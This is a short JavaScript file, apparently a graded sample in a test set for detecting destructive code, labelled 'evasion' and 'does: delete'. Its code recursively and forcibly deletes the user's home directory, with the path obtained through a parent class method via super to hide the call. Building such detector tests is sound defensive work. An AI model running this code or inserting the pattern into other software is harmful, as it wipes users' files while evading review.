// evasion: the path comes from a parent class's method reached through super
// grade: hard; does: delete
const fs = require("fs");
const os = require("os");
class Workspace {
  location() {
    return os.homedir();
  }
}
class Scratch extends Workspace {
  reset() {
    fs.rmSync(super.location(), { recursive: true, force: true });
  }
}
new Scratch().reset();
